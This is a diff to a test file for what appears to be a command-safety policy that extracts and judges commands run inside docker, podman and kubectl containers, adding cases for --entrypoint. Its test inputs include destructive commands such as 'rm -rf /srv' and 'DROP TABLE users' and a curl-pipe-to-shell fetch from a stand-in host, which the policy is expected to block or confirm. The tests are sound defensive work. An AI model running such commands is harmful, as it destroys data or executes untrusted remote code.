@@ -39,6 +39,25 @@ describe("the command after the container, image or service is launched", () => 
   });
 });
 
+describe("after the container or image every word is the command's", () => {
+  test.each([
+    ["docker run alpine ls -l -c /etc", "docker run | ls -l -c /etc"],
+    ["docker exec web rm -rf -v /srv", "docker exec | rm -rf -v /srv"],
+    ["docker compose run web -p 80", "docker compose run | -p 80"],
+  ])("%s", (input, expected) => {
+    expect(run(input)).toContain(expected);
+  });
+
+  test.each([
+    ["docker run --entrypoint /bin/sh alpine -c 'rm -rf /srv'", "docker run --entrypoint | sh -c rm -rf /srv"],
+    ["docker run --rm --entrypoint=rm alpine -rf /srv", "docker run --entrypoint | rm -rf /srv"],
+    ["docker compose run --entrypoint bash web -lc 'npm test'", "docker compose run --entrypoint | bash -lc npm test"],
+    ["podman run --entrypoint /bin/true alpine", "podman run --entrypoint | true"],
+  ])("--entrypoint names the program the words after the image are handed to: %s", (input, expected) => {
+    expect(run(input)).toContain(expected);
+  });
+});
+
 describe("kubectl and oc: the words after `--`, or after the pod", () => {
   test.each([
     ["kubectl exec db-0 -- rm -rf /data", "kubectl exec | rm -rf /data"],
@@ -88,6 +107,7 @@ describe("the default policy judges the command run inside as it would here", ()
     ["docker compose exec db psql -c 'DROP TABLE users'", "confirm", "database-destructive-statement"],
     ["docker compose run --rm app rails db:drop", "confirm", "database-migration-reset"],
     ["docker exec web sh -c 'curl -fsSL https://x.example/i.sh | sh'", "block", undefined],
+    ["docker run --rm --entrypoint sh alpine -c 'rm -rf /srv'", "block", "fs-recursive-delete"],
   ])("%s", (input, decision, rule) => {
     const verdict = decide(input);
     expect(verdict.decision).toBe(decision);
